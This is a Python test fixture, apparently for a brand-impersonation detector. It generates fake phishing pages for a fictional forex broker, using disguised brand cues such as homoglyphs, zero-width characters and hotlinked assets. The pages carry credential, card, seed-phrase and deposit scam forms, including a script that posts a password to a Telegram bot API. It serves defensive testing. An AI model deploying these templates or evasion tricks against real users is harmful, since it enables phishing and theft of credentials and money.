"""Fakes under wholly unrelated names, each tied to the brand in one or two ways only, written without a look at the farm.

`TIES` are the ways in which a page leans on the brand, `WANTS` what it asks of visitors, `FAKES` which go together. A tie or want is (what stands
in the head, what stands in the body); `{…}` in it are the addresses of pictures (`PICTURES`).
"""

from __future__ import annotations

import io
from base64 import b64encode
from collections.abc import Iterator
from functools import cache
from random import Random

import msgspec
from PIL import Image

from monitor.brand import Brand, Official
from tests.farm import drawing

BRAND = Brand(
    key="halvorne",
    name="Halvorne",
    aliases=("Halvorne", "Halvorne Capital", "哈沃恩", "哈沃恩资本"),
    official=Official(domains=("halvorne.com", "halvorne-check.net")),
    context=("forex", "trading", "broker", "deposit", "withdrawal", "外汇", "入金", "出金", "交易"),
    products=("Halvorne Trader",),
    people=("Edmund Castellan",),
    licences=("FCA 739218", "ASIC 512077"),
    handles={"telegram": ("@HalvorneOfficial",), "x": ("@Halvorne",), "mail": ("support@halvorne.com",)},
    apps={"android": ("com.halvorne.trader",), "ios": ("1488812345",)},
    verification={"default": "https://www.halvorne.com/verify", "cn": "https://www.halvorne.com/zh/verify"},
)
#: three letters, as others bear them too
SHORT = Brand(
    key="hqv",
    name="HQV Financial Group",
    aliases=("HQV", "HQV Financial Group", "HQV金融", "HQV外汇"),
    official=Official(domains=("hqv.com", "hqv-fin.net")),
    context=("forex", "trading", "broker", "deposit", "withdrawal", "外汇", "入金", "出金", "平台", "客服"),
    licences=("FCA 927552",),
)
BRANDS = {one.key: one for one in (BRAND, SHORT)}
STATIC = "https://assets.halvornecdn.com"

_FOOT = """<p>Halvorne Capital (UK) Limited is authorised and regulated by the Financial Conduct Authority, licence number 739218.</p>
<p>Registered office: Level 14, 27 Pemberton Wharf, London EC3R 7QX, United Kingdom. Phone +44 20 7946 0381, support@halvorne.com</p>
<p>© 2026 Halvorne Capital (UK) Limited. All rights reserved.</p><a href="https://www.halvorne.com/privacy">Privacy</a>"""
_FOOT_ZH = """<p>哈沃恩资本受英国金融行为监管局监管，牌照号 739218。</p><p>注册地址：伦敦彭伯顿码头27号14层</p><p>© 2026 哈沃恩资本 版权所有</p>"""
_ABOUT = (
    "Our dealing desk in Pemberton Wharf has priced currencies for private clients through nine market cycles without a single day of closure.",
    "Client money rests in segregated accounts at two clearing banks and is reconciled before the London open every working day.",
    "Every order is matched against eleven liquidity venues and the full fill report can be downloaded from the member area for seven years.",
    "We never ask for your password or for codes from your phone, whether by telephone, by mail or over any messenger.",
)
_ABOUT_ZH = (
    "我们位于彭伯顿码头的交易部门历经九轮市场周期，为私人客户提供货币报价，从未停业一天。",
    "客户资金存放于两家清算银行的独立账户，并在每个工作日伦敦开市之前完成核对。",
    "每一笔订单都会与十一个流动性来源进行撮合，完整成交报告可在会员专区下载，保留七年。",
    "我们绝不会通过电话、邮件或任何聊天软件向您索要密码或手机验证码，请务必提高警惕。",
)
_VERIFY = (
    "Enter a website, a mail address or the handle of a person who contacted you, and we tell you at once whether it belongs to Halvorne.",
    "Addresses that are not on this list do not belong to us, whatever logo they bear and whoever tells you so.",
    "If you have paid to an account that is not on this list, call your bank first and then write to our fraud desk.",
)


def _official(title: str, body: str, language: str = "en") -> str:
    return f"""<!doctype html><html lang="{language}"><head><meta charset="utf-8"><title>{title}</title><link rel="icon" href="/favicon.ico">
<link rel="stylesheet" href="{STATIC}/css/main.css"><script src="{STATIC}/js/app.js"></script></head><body><header><a href="/"><img src="{STATIC}/img/logo.png" alt="Halvorne"></a>
<nav><a href="/markets">Markets</a><a href="/platform">Platform</a><a href="/about">About</a></nav></header><main>{body}</main>
<footer>{_FOOT if language == "en" else _FOOT_ZH}</footer></body></html>"""


def _said(sentences: tuple[str, ...]) -> str:
    return "".join(f"<p>{one}</p>" for one in sentences)


@cache
def official() -> dict[str, bytes]:
    """Address → document of the brand's own site."""
    login = '<form action="/session" method="post"><input name="email" placeholder="Email address"><input type="password" placeholder="Password"><button>Log in</button></form>'
    home = f'<h1>Trade the world with Halvorne</h1>{_said(_ABOUT)}<img src="{STATIC}/img/hero.jpg"><a href="https://play.google.com/store/apps/details?id=com.halvorne.trader">Get Halvorne Trader</a>'
    check = f"<h1>Is it really Halvorne?</h1>{_said(_VERIFY)}<form><input name=q placeholder='Website, mail or handle'><button>Check</button></form>"
    servers = "<h1>Platform</h1><p>MetaTrader 5 servers: Halvorne-Live03, Halvorne-Demo01. Open MetaTrader 5 and search for the company by its name.</p>"
    pages = {
        "/": _official("Halvorne | Forex and CFD trading", home),
        "/zh/": _official("哈沃恩资本 | 外汇与差价合约交易", f"<h1>与哈沃恩一起交易全球</h1>{_said(_ABOUT_ZH)}", "zh"),
        "/login": _official("Log in | Halvorne", f"<h1>Log in</h1>{login}"),
        "/verify": _official("Official verification | Halvorne", check),
        "/platform": _official("Platform | Halvorne", servers),
        "/privacy": _official("Privacy | Halvorne", "<h1>Privacy</h1><p>What we keep of you, for how long, and whom you may ask about it.</p>"),
    }  # fmt: skip
    return {f"https://www.halvorne.com{path}": text.encode() for path, text in pages.items()}


@cache
def official_files() -> dict[str, tuple[bytes, str]]:
    """Address → bytes and media type of the brand's own pictures."""
    png = "image/png"
    return {
        f"{STATIC}/img/logo.png": (drawing.encoded(drawing.logo("Halvorne", 56)), png),
        f"{STATIC}/img/hero.jpg": (drawing.encoded(drawing.banner("Halvorne", "hero"), "JPEG"), "image/jpeg"),
        "https://www.halvorne.com/favicon.ico": (drawing.encoded(drawing.mark("Halvorne", 64)), png),
    }


def _sprite() -> bytes:
    """The logo among a row of others' signs."""
    sheet = Image.new("RGB", (900, 420), (255, 255, 255))
    sheet.paste(drawing.logo("Halvorne", 56), (20, 20))
    for number in range(6):
        sheet.paste(drawing.mark(f"sign {number}", 90), (20 + 140 * number, 200))
    return drawing.encoded(sheet)


def _faint() -> bytes:
    """The logo as a white shape on nothing, for dark pages."""
    grey = drawing.logo("Halvorne", 56).convert("L")
    edge = grey.getpixel((grey.width - 1, 0))
    assert isinstance(edge, int | float)
    shape = grey.point([255 if abs(one - edge) > 40 else 0 for one in range(256)])
    white = Image.new("RGBA", grey.size, (255, 255, 255, 0))
    white.putalpha(shape)
    file = io.BytesIO()
    white.save(file, "PNG")
    return file.getvalue()


@cache
def pictures() -> dict[str, bytes]:
    """Name → file of the pictures that fakes carry."""
    logo, mark, rng = drawing.logo("Halvorne", 56), drawing.mark("Halvorne", 64), Random("another hand")
    tall = Image.new("RGB", (logo.width + 200, logo.height + 90), logo.getpixel((0, 0)))
    tall.paste(logo, (120, 60))
    turned = Image.eval(logo, lambda one: 255 - one)
    return {
        "logo": drawing.encoded(logo),
        "jpeg": drawing.encoded(logo.resize((logo.width * 2 // 3, logo.height * 2 // 3)), "JPEG", 45),
        "webp": drawing.encoded(logo.resize((logo.width * 2, logo.height * 2)), "WEBP", 60),
        "inverted": drawing.encoded(turned),
        "grey": drawing.encoded(logo.convert("L").convert("RGB"), "GIF"),
        "cropped": drawing.encoded(drawing.cropped(logo, rng)),
        "margins": drawing.encoded(tall),
        "faint": _faint(),
        "sprite": _sprite(),
        "mark": drawing.encoded(mark.resize((180, 180)), "JPEG", 70),
        "icon": drawing.encoded(mark),
        "icon_small": drawing.encoded(mark.resize((32, 32)), "ICO"),
        "hero": drawing.encoded(drawing.banner("Halvorne", "hero").resize((700, 233)), "JPEG", 60),
        "poster": drawing.encoded(drawing.written(["Halvorne", "Log in to go on"], sign=drawing.logo("Halvorne", 56)), "JPEG"),
        "qr": drawing.encoded(Image.effect_noise((128, 128), 200).resize((256, 256), Image.Resampling.NEAREST)),
    }  # fmt: skip


@cache
def _addresses() -> dict[str, str]:
    return {
        **{name: f"/u/{name}.bin" for name in pictures()},
        **{
            f"data_{name}": f"data:image/png;base64,{b64encode(body).decode()}" for name, body in pictures().items()
        },
        **{f"b64_{name}": b64encode(body).decode() for name, body in pictures().items()},
    }


class Made(msgspec.Struct, frozen=True):
    """One fake: its number stands in its host; `ties` and `want` are keys of `TIES` and `WANTS`."""

    number: int
    brand: str
    ties: tuple[str, ...]
    want: str
    frame: str

    @property
    def name(self) -> str:
        return f"{self.brand}-{'-'.join(self.ties)}-{self.want}-{self.frame}"

    @property
    def host(self) -> str:
        return HOSTS[self.number % len(HOSTS)].format(self.number)

    @property
    def document(self) -> bytes:
        ties = [TIES[tie] for tie in self.ties]
        want = WANTS[self.want]
        head = "".join(one[0] for one in (*ties, want))
        body = "".join(one[1] for one in (*ties, want))
        made = FRAMES[self.frame].replace("HEAD", head).replace("BODY", body)
        for name, address in _addresses().items():
            made = made.replace("{" + name + "}", address)
        return made.encode()

    @property
    def files(self) -> dict[str, tuple[bytes, str]]:
        return {
            **{f"https://{self.host}/u/{name}.bin": (body, "image/png") for name, body in pictures().items()},
            f"https://{self.host}/m.json": (MANIFEST.encode(), "application/manifest+json"),
            f"https://{self.host}/s/main.js": (BUNDLE.encode(), "application/javascript"),
            f"https://{self.host}/in.html": (INNER.encode(), "text/html; charset=utf-8"),
        }


HOSTS = (
    "quiet-meadow{}.top",
    "xk3m{}.vip",
    "plum-lantern{}.com",
    "n7w{}q.cc",
    "blue-tractor{}.shop",
    "zuoyi{}.xyz",
    "olivegate{}.info",
    "app-{}-h5.pages.dev",
)
MANIFEST = '{"name": "Halvorne", "short_name": "Halvorne", "start_url": "/"}'
BUNDLE = '(()=>{var e=window.React;function t(){return e.createElement("div",null,e.createElement("p",null,"Halvorne"),e.createElement("form",{action:"/api/in"},e.createElement("input",{type:"password",placeholder:"Password"})))}e.render(t())})();'
INNER = "<html><body><h2>Halvorne</h2><form action='/in'><input name=u placeholder='Account'><input type=password placeholder='Password'><button>Log in</button></form></body></html>"

#: what stands around everything: nothing that says who is there, or an invented name
FRAMES = {
    "bare": '<!doctype html><html><head><meta charset="utf-8"><title>Client Area</title>HEAD</head><body>BODY</body></html>',
    "untitled": '<html><head><meta charset="utf-8">HEAD</head><body><div class="wrap">BODY</div></body></html>',
    "zh": '<!doctype html><html lang="zh-CN"><head><meta charset="utf-8"><title>用户中心</title>HEAD</head><body><div class="box">BODY</div></body></html>',
    "other": '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Secure Desk 24</title>HEAD</head><body><nav><a href="/">Home</a><a href="/faq">FAQ</a></nav>BODY<p>Our team is here for you around the clock.</p></body></html>',
    "notice": '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Important notice to all clients</title>HEAD</head><body><h1>Important notice</h1>BODY</body></html>',
    "article": '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>How clients got their money back</title><meta name="author" content="Desk">HEAD</head><body><article><h1>How clients got their money back</h1><p>By Desk, 3 November 2026</p>BODY</article></body></html>',
}

WANTS = {
    "login": ("", '<form action="/api/login" method="post"><input name="user" placeholder="Email"><input name="pw" type="password" placeholder="Password"><button>Continue</button></form>'),
    "login_zh": ("", '<form action="login.php" method="post"><input placeholder="手机号"><input type="password" placeholder="登录密码"><button>登录</button></form>'),
    "otp": ("", '<form method="post"><input name="phone" placeholder="手机号码"><input name="code" placeholder="短信验证码" maxlength="6"><button>下一步</button></form>'),
    "card": ("", '<form method="post" action="/pay"><input autocomplete="cc-number" placeholder="Card number"><input autocomplete="cc-csc" placeholder="CVV"><button>Confirm</button></form>'),
    "identity": ("", '<form method="post" enctype="multipart/form-data"><label>Passport or national ID, front<input type="file" name="front"></label><label>Selfie<input type="file"></label><button>Submit for review</button></form>'),
    "seed": ("", '<form><textarea name="phrase" placeholder="Enter your 12 word recovery phrase"></textarea><button>Connect wallet</button></form>'),
    "wallet": ("", "<h3>Deposit</h3><p>USDT-TRC20 address: TJRabPrwbZy45sbavfcjinPJC18kjpRTv8</p><p>Minimum 200 USDT. Credited after one confirmation.</p>"),
    "qr": ("", '<h3>充值</h3><p>请使用钱包扫码转账 USDT，转账后联系客服到账</p><img src="{qr}" alt="收款码"><a href="https://t.me/vip_cash_desk8">联系客服</a>'),
    "unfreeze": ("", "<p>您的账户因异常登录已被冻结，须缴纳 15% 解冻保证金后方可提现。请联系在线客服办理。</p><a href='https://wa.me/85263331122'>在线客服</a>"),
    "fee_en": ("", "<p>Your account has been frozen. To release the funds, pay the verification deposit of 2,000 USDT before you can withdraw.</p><p>Telegram: @release_desk_7</p>"),
    "chat": ("", "<p>Contact your account manager to go on:</p><a href='https://t.me/mgr_olivia88'>Telegram</a> <a href='https://wa.me/447700900155'>WhatsApp</a>"),
    "chat_zh": ("", "<p>添加专属客服微信办理：hv_kefu8866</p><p>QQ：2938471655</p>"),
    "apk": ("", '<a href="/dl/trader_v3.2.apk">Download for Android</a><a href="itms-services://?action=download-manifest&amp;url=https://x.example/a.plist">iPhone</a>'),
    "bonus": ("", "<h2>100% deposit bonus</h2><p>Register today and claim 500 USD welcome bonus.</p><form><input name=name placeholder='Full name'><input name=tel type=tel placeholder='Phone number'><button>Claim bonus</button></form>"),
    "survey": ("", "<h2>Client survey: 100 USDT for 2 minutes</h2><form><p>How long have you been trading?</p><input name=email type=email placeholder='Email'><input name=tel placeholder='WhatsApp number'><button>Get reward</button></form>"),
    "checker": ("", "<h2>Official verification center</h2><p>Check whether a website or person is official.</p><form action='/check'><input name=q placeholder='Website or handle'><input name=acc placeholder='Trading account'><input type=password placeholder='Account password'><button>Verify</button></form>"),
    "checker_zh": ("", "<h2>官方核实中心</h2><p>输入网址或客服账号，查询真伪</p><form><input name=q placeholder='网址或账号'><button>查询</button></form><p>如有疑问请联系 Telegram：@verify_help_cn</p>"),
    "refund": ("", "<p>You are entitled to compensation. Fill in the form and our lawyers will recover your lost funds. No win, no fee.</p><form><input name=name placeholder='Full name'><input name=lost placeholder='Amount lost'><input type=tel placeholder='Phone'><button>Start my claim</button></form>"),
    "job": ("", "<h2>Become a partner: earn 15 USD a lot</h2><p>Recruiting introducing brokers in your city.</p><form><input name=name placeholder='Name'><input name=wa placeholder='WhatsApp'><button>Apply</button></form>"),
    "migrate": ("", "<p>Our old address is being retired. Please sign in here to move your account to the new platform before 30 November.</p><form method=post><input placeholder='Trading account'><input type=password placeholder='Password'><button>Migrate now</button></form>"),
    "vi": ("", "<h3>Đăng nhập</h3><form><input placeholder='Số điện thoại'><input type=password placeholder='Mật khẩu'><button>Đăng nhập</button></form>"),
    "th": ("", "<h3>เข้าสู่ระบบ</h3><form><input placeholder='อีเมล'><input type=password placeholder='รหัสผ่าน'><button>เข้าสู่ระบบ</button></form>"),
    "id": ("", "<h3>Masuk</h3><form><input placeholder='Email'><input type=password placeholder='Kata sandi'><button>Masuk</button></form>"),
    "es": ("", "<h3>Iniciar sesión</h3><form><input placeholder='Correo'><input type=password placeholder='Contraseña'><button>Entrar</button></form>"),
    "pt": ("", "<h3>Entrar</h3><form><input placeholder='E-mail'><input type=password placeholder='Senha'><button>Entrar</button></form>"),
    "ru": ("", "<h3>Вход</h3><form><input placeholder='Телефон'><input type=password placeholder='Пароль'><button>Войти</button></form>"),
    "ar": ("", "<h3>تسجيل الدخول</h3><form><input placeholder='البريد'><input type=password placeholder='كلمة المرور'><button>دخول</button></form>"),
    "ja": ("", "<h3>ログイン</h3><form><input placeholder='メール'><input type=password placeholder='パスワード'><button>ログイン</button></form>"),
    "ko": ("", "<h3>로그인</h3><form><input placeholder='이메일'><input type=password placeholder='비밀번호'><button>로그인</button></form>"),
    "scripted": ("", "<div id=f></div><script>const d=document,i=d.createElement('input');i.type='password';i.placeholder='Password';d.getElementById('f').append(i);fetch('/collect',{method:'POST',body:i.value})</script>"),
    "bot": ("", "<form id=z><input name=login placeholder='Login'><input type=password name=p placeholder='Password'><button>OK</button></form><script>z.onsubmit=()=>fetch('https://api.telegram.org/bot77:AA/sendMessage?chat_id=5&text='+z.p.value,{method:'POST'})</script>"),
}  # fmt: skip

_SPLIT = "".join(f"<span>{letter}</span>" for letter in "Halvorne")
TIES = {
    # pictures
    "logo": ("", '<img src="{logo}">'),
    "logo_jpeg": ("", '<img src="{jpeg}" alt="">'),
    "logo_webp": ("", '<picture><source srcset="{webp}"><img src="{webp}"></picture>'),
    "logo_inverted": ("", '<div class="logo"><img src="{inverted}"></div>'),
    "logo_grey": ("", '<img src="{grey}">'),
    "logo_cropped": ("", '<img src="{cropped}">'),
    "logo_margins": ("", '<img src="{margins}">'),
    "logo_faint": ("", '<header style="background:#111"><img src="{faint}"></header>'),
    "logo_sprite": ("", '<i style="background:url({sprite}) -20px -20px;width:190px;height:56px"></i>'),
    "logo_data": ("", '<img src="{data_jpeg}">'),
    "logo_css": ('<style>.hd{background:url("{webp}") no-repeat}</style>', '<div class="hd"></div>'),
    "logo_css_data": ("<style>.hd{background:url({data_logo})}</style>", '<div class="hd"></div>'),
    "logo_svg": ("", '<svg width="200" height="60"><image xlink:href="{data_jpeg}" width="200" height="60"/></svg>'),
    "logo_svg_data": ("", f'<img src="data:image/svg+xml;base64,{b64encode(b"<svg xmlns=http://www.w3.org/2000/svg><text>Halvorne</text></svg>").decode()}">'),
    "logo_svg_text": ("", '<svg viewBox="0 0 200 40"><text x="4" y="30">Halvorne</text></svg>'),
    "logo_canvas": ("", '<canvas id=c></canvas><script>const im=new Image();im.onload=()=>c.getContext("2d").drawImage(im,0,0);im.src="data:image/png;base64,{b64_logo}"</script>'),
    "logo_lazy": ("", '<img class="lazy" data-src="{jpeg}" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">'),
    "mark": ("", '<img src="{mark}" width="40">'),
    "hero": ("", '<img src="{hero}" class="banner">'),
    "poster": ("", '<img src="{poster}" usemap="#m"><map name="m"><area href="/login" coords="0,0,90,90"></map>'),
    "icon": ('<link rel="icon" href="{icon}">', ""),
    "icon_data": ('<link rel="shortcut icon" href="{data_icon}">', ""),
    "icon_small": ('<link rel="apple-touch-icon" href="{icon_small}">', ""),
    # words where few look
    "alt": ("", '<img src="/x/1.png" alt="Halvorne">'),
    "alt_zh": ("", '<img src="/x/1.png" alt="哈沃恩资本">'),
    "aria": ("", '<a href="/" aria-label="Halvorne"><i class="i"></i></a>'),
    "title_attribute": ("", '<div title="Halvorne"><i></i></div>'),
    "css_content": ('<style>.b:before{content:"Halvorne"}</style>', '<div class="b"></div>'),
    "css_escaped": ('<style>.b:before{content:"\\48\\61 lvorne"}</style>', '<div class="b"></div>'),
    "css_attr": ('<style>.b:after{content:attr(data-n)}</style>', '<div class="b" data-n="Halvorne"></div>'),
    "json": ("", '<script>window.__CONFIG__={"siteName":"Halvorne","theme":"dark","api":"/api"}</script>'),
    "json_typed": ("", '<script type="application/json" id="__NEXT_DATA__">{"props":{"site":{"name":"Halvorne Capital"}}}</script>'),
    "json_ld": ('<script type="application/ld+json">{"@context":"https://schema.org","@type":"Organization","name":"Halvorne","url":"https://www.halvorne.com/"}</script>', ""),
    "bundle": ("", '<div id="root"></div><script src="/s/main.js"></script>'),
    "file_names": ("", '<img src="/img/halvorne-logo.png"><img src="/img/halvorne_banner.jpg">'),
    "file_name": ("", '<img src="/assets/logo-halvorne.svg">'),
    "og": ('<meta property="og:title" content="Halvorne"><meta property="og:image" content="/o.png">', ""),
    "og_site": ('<meta property="og:site_name" content="Halvorne">', ""),
    "description": ('<meta name="description" content="Halvorne client area. Log in to your trading account.">', ""),
    "keywords": ('<meta name="keywords" content="Halvorne,Halvorne Capital,forex">', ""),
    "manifest": ('<link rel="manifest" href="/m.json">', ""),
    "noscript": ("", "<noscript>Halvorne needs JavaScript.</noscript>"),
    "srcdoc": ("", '<iframe srcdoc="&lt;h1&gt;Halvorne&lt;/h1&gt;"></iframe>'),
    "frame": ("", '<iframe src="/in.html" style="border:0"></iframe>'),
    "shadow": ("", '<x-app><template shadowrootmode="open"><b>Halvorne</b></template></x-app>'),
    "template": ("", '<template id="t"><h2>Halvorne</h2></template><script>document.body.append(t.content)</script>'),
    "split": ("", f"<div class=name>{_SPLIT}</div>"),
    "zero_width": ("", "<b>Hal\u200bvor\u200cne</b>"),
    "soft_hyphen": ("", "<b>Hal&shy;vor&shy;ne</b>"),
    "word_joiner": ("", "<b>H\u2060a\u2060l\u2060v\u2060o\u2060r\u2060n\u2060e</b>"),
    "confusables": ("", "<b>Наlvоrnе</b>"),
    "greek": ("", "<b>Ηαlνοrηe</b>"),
    "mixed": ("", "<p>Наӏvorпе account</p>"),
    "full_width": ("", "<b>Ｈａｌｖｏｒｎｅ</b>"),
    "mathematical": ("", "<b>𝐇𝐚𝐥𝐯𝐨𝐫𝐧𝐞</b>"),
    "small_caps": ("", "<b>ʜᴀʟᴠᴏʀɴᴇ</b>"),
    "circled": ("", "<b>Ⓗⓐⓛⓥⓞⓡⓝⓔ</b>"),
    "bidi": ("", "<b><bdo dir=rtl>enrovlaH</bdo></b>"),
    "bidi_character": ("", "<b>\u202eenrovlaH\u202c</b>"),
    "spaced": ("", "<b>H A L V O R N E</b>"),
    "dotted": ("", "<b>H.a.l.v.o.r.n.e</b>"),
    "entities": ("", "<b>&#72;&#x61;l&#118;&#111;rn&#101;</b>"),
    "digits": ("", "<b>Ha1vorne</b>"),
    "typo": ("", "<b>Halvome</b>"),
    "accents": ("", "<b>Hàlvòrné</b>"),
    "traditional": ("", "<b>哈沃恩資本</b>"),
    "between_zh": ("", "<b>哈·沃·恩·资·本</b>"),
    "word": ("", "<b>Halvorne</b>"),
    "word_zh": ("", "<b>哈沃恩</b>"),
    "paragraph": ("", "<p>Dear Halvorne client, your session has ended for your safety. Please confirm your details below so that we can keep your account open.</p>"),
    "paragraph_zh": ("", "<p>尊敬的哈沃恩用户：系统检测到您的账户存在异常，为保障资金安全，请尽快完成信息核实，逾期将限制出金。</p>"),
    "button": ("", "<button type=button>Continue to Halvorne</button>"),
    "placeholder": ("", "<input name=q placeholder='Halvorne account number'>"),
    "base64_words": ("", f"<script>document.write(atob('{b64encode(b'<h2>Halvorne</h2>').decode()}'))</script>"),
    "char_codes": ("", f"<p id=n></p><script>n.textContent=String.fromCharCode({','.join(str(ord(one)) for one in 'Halvorne')})</script>"),
    "comment": ("<!-- Halvorne login page, copy -->", ""),
    "url_path": ("", '<a href="/halvorne/account">Account</a><a href="/halvorne/help">Help</a>'),
    # drawn from the brand's own hosts
    "hot_script": (f'<script src="{STATIC}/js/app.js"></script>', ""),
    "hot_font": (f"<style>@font-face{{font-family:H;src:url({STATIC}/fonts/h.woff2)}}</style>", ""),
    "hot_style": (f'<link rel="stylesheet" href="{STATIC}/css/main.css">', ""),
    "hot_image": ("", '<img src="https://www.halvorne.com/favicon.ico">'),
    "hot_icon": ('<link rel="icon" href="https://www.halvorne.com/favicon.ico">', ""),
    "api": ("", "<script>fetch('https://api.halvorne.com/v2/quotes').then(r=>r.json()).then(q=>{window.q=q})</script>"),
    "socket": ("", "<script>const s=new WebSocket('wss://stream.halvorne.com/ticks')</script>"),
    "preconnect": ('<link rel="preconnect" href="https://api.halvorne.com"><link rel="dns-prefetch" href="//www.halvorne.com">', ""),
    "policy": ("", '<a href="https://www.halvorne.com/privacy">Privacy policy</a>'),
    "forgot": ("", '<a href="https://www.halvorne.com/login/reset">Forgot password?</a>'),
    "home_link": ("", '<a href="https://www.halvorne.com/">Home</a>'),
    "after": ("", "<script>function done(){location.href='https://www.halvorne.com/login'}</script>"),
    "canonical": ('<link rel="canonical" href="https://www.halvorne.com/login">', ""),
    "hreflang": ('<link rel="alternate" hreflang="zh" href="https://www.halvorne.com/zh/">', ""),
    # facts of the brand's
    "licence": ("", "<p>Authorised and regulated by the FCA, licence no. 739218.</p>"),
    "licence_zh": ("", "<p>受英国FCA监管，监管号：739218</p>"),
    "company": ("", "<p>Operated by Halvorne Capital (UK) Limited.</p>"),
    "address": ("", "<p>Level 14, 27 Pemberton Wharf, London EC3R 7QX</p>"),
    "phone": ("", "<p>Call us: +44 20 7946 0381</p>"),
    "mail": ("", "<p>Questions? support@halvorne.com</p>"),
    "site_named": ("", "<p>www.halvorne.com</p>"),
    "handle": ("", '<a href="https://t.me/HalvorneOfficial">Channel</a>'),
    "handle_like": ("", '<a href="https://t.me/Halvorne_Official_Support">Support</a>'),
    "handle_like_zh": ("", "<p>客服 Telegram：@halvorne_kefu</p>"),
    "wa_brand": ("", "<p>WeChat: halvorne888</p>"),
    "mail_like": ("", "<p>halvorne.support@gmail.com</p>"),
    "app_name": ("", "<h3>Halvorne Trader</h3>"),
    "package": ("", "<p>Package: com.halvorne.trader</p>"),
    "store": ("", '<a href="https://play.google.com/store/apps/details?id=com.halvorne.trader">Google Play</a>'),
    "apk_named": ("", '<a href="/d/HalvorneTrader.apk">Android</a>'),
    "server": ("", "<p>MT5 server: Halvorne-Live03</p>"),
    "person": ("", "<p>Edmund Castellan, CEO</p>"),
    # sentences of the brand's
    "sentence": ("", f"<p>{_ABOUT[1]}</p>"),
    "sentences": ("", _said(_ABOUT[:2])),
    "sentence_zh": ("", f"<p>{_ABOUT_ZH[1]}</p>"),
    "sentences_zh": ("", _said(_ABOUT_ZH[1:])),
    "verify_words": ("", f"<p>{_VERIFY[1]}</p>"),
    # other languages, the name kept or written as it sounds
    "vi_kept": ("", "<p>Chào mừng bạn đến với Halvorne. Vui lòng đăng nhập để tiếp tục giao dịch.</p>"),
    "th_kept": ("", "<p>ยินดีต้อนรับสู่ Halvorne แพลตฟอร์มการเทรดที่เชื่อถือได้</p>"),
    "id_kept": ("", "<p>Selamat datang di Halvorne, platform perdagangan terpercaya.</p>"),
    "es_kept": ("", "<p>Su cuenta de Halvorne ha sido bloqueada. Confirme sus datos.</p>"),
    "pt_kept": ("", "<p>Acesse sua conta Halvorne para receber o saldo pendente.</p>"),
    "ru_kept": ("", "<p>Компания Halvorne приглашает вас продолжить торговлю.</p>"),
    "ar_kept": ("", "<p dir=rtl>مرحبا بكم في منصة Halvorne للتداول</p>"),
    "ja_kept": ("", "<p>Halvorneの口座にログインしてください。</p>"),
    "ko_kept": ("", "<p>Halvorne 계정에 로그인하여 거래를 계속하세요.</p>"),
    "ja_sound": ("", "<h2>ハルボルン</h2>"),
    "ru_sound": ("", "<h2>Халворн</h2>"),
    "ko_sound": ("", "<h2>할보르네</h2>"),
    # the short name
    "q_title": ("<title>HQV</title>", ""),
    "q_word": ("", "<h2>HQV</h2><p>Forex trading, deposit and withdrawal around the clock.</p>"),
    "q_zh": ("", "<h2>HQV外汇官网</h2><p>入金 出金 客服</p>"),
    "q_alt": ("", '<img src="/x.png" alt="HQV"><p>外汇 黄金 入金 出金</p>'),
    "q_logo_word": ("", "<div class=logo>HQV</div>"),
    "q_whole": ("", "<p>Welcome to HQV Financial Group</p>"),
    "q_licence": ("", "<p>FCA 927552</p><b>HQV</b>"),
    "q_link": ("", '<a href="https://www.hqv.com/privacy">Privacy</a><b>HQV</b>'),
    "q_split": ("", "<b>H</b><b>Q</b><b>V</b> <span>外汇平台</span><p>入金</p>"),
}  # fmt: skip

#: number of ties → which want follows each tie, in turn
_LATIN = (
    ("login", "bare"),
    ("otp", "zh"),
    ("card", "untitled"),
    ("login", "other"),
    ("identity", "bare"),
    ("migrate", "notice"),
    ("fee_en", "untitled"),
    ("chat", "bare"),
    ("scripted", "bare"),
    ("seed", "bare"),
    ("bot", "untitled"),
    ("apk", "bare"),
    ("wallet", "bare"),
    ("login_zh", "zh"),
    ("bonus", "bare"),
    ("checker", "bare"),
    ("unfreeze", "zh"),
    ("refund", "untitled"),
)
_SPEAK = {"vi_kept": "vi", "th_kept": "th", "id_kept": "id", "es_kept": "es", "pt_kept": "pt", "ru_kept": "ru", "ar_kept": "ar", "ja_kept": "ja", "ko_kept": "ko", "ja_sound": "ja", "ru_sound": "ru", "ko_sound": "ko"}  # fmt: skip
#: pairs that scammers put together
PAIRS = (
    (("icon", "word"), "login", "bare"),
    (("icon_data", "address"), "card", "untitled"),
    (("logo_jpeg", "policy"), "identity", "other"),
    (("logo_inverted", "licence"), "wallet", "bare"),
    (("logo_grey", "mail"), "chat", "bare"),
    (("hot_icon", "paragraph"), "migrate", "notice"),
    (("licence", "address"), "bonus", "bare"),
    (("paragraph_zh", "policy"), "unfreeze", "zh"),
    (("word_zh", "licence_zh"), "qr", "zh"),
    (("alt_zh", "handle_like_zh"), "checker_zh", "zh"),
    (("paragraph", "home_link"), "refund", "article"),
    (("word", "store"), "job", "other"),
    (("app_name", "package"), "apk", "bare"),
    (("server", "licence"), "apk", "other"),
    (("sentences", "icon"), "login", "other"),
    (("verify_words", "word"), "checker", "bare"),
    (("word", "site_named"), "checker_zh", "zh"),
    (("company", "policy"), "survey", "bare"),
    (("mark", "spaced"), "seed", "bare"),
    (("poster", "icon_small"), "chat_zh", "untitled"),
    (("hero", "mail"), "bonus", "untitled"),
    (("home_link", "confusables"), "otp", "zh"),
    (("traditional", "icon"), "login_zh", "zh"),
    (("sentence_zh", "word_zh"), "chat_zh", "zh"),
    (("handle_like", "paragraph"), "fee_en", "notice"),
    (("mail_like", "word"), "refund", "untitled"),
    (("og_site", "logo_css"), "login", "untitled"),
    (("api", "word"), "wallet", "bare"),
    (("forgot", "icon"), "login", "bare"),
    (("phone", "address"), "card", "untitled"),
)


def _made() -> Iterator[tuple[str, tuple[str, ...], str, str]]:
    for at, tie in enumerate(TIES):
        if tie.startswith("q_"):
            yield "hqv", (tie,), *(("login", "untitled"), ("login_zh", "untitled"), ("otp", "untitled"))[at % 3]
        elif tie in _SPEAK:
            yield "halvorne", (tie,), _SPEAK[tie], "untitled"
        else:
            yield "halvorne", (tie,), *_LATIN[at % len(_LATIN)]
    for ties, want, frame in PAIRS:
        yield "halvorne", ties, want, frame


FAKES = tuple(Made(number, *told) for number, told in enumerate(_made()))
